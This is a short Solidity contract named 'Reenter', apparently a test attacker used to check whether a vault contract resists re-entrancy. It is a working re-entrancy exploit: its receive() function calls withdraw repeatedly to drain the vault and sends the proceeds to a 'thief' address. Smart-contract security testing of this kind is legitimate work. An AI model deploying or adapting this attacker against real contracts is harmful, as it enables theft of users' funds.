// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface IVault {
    function deposit() external payable;
    function withdraw() external;
}

/// @title Reenter — the re-entrancy attacker: deposits, withdraws, and withdraws again from
/// inside the vault's transfer until the vault is empty (or the vault refuses).
contract Reenter {
    IVault public immutable vault;
    address public immutable thief;
    uint256 public reentered;

    constructor(IVault v) {
        vault = v;
        thief = msg.sender;
    }

    function attack() external payable {
        vault.deposit{value: msg.value}();
        vault.withdraw();
        payable(thief).transfer(address(this).balance);
    }

    receive() external payable {
        if (address(vault).balance >= msg.value && msg.value > 0) {
            reentered++;
            vault.withdraw();
        }
    }
}
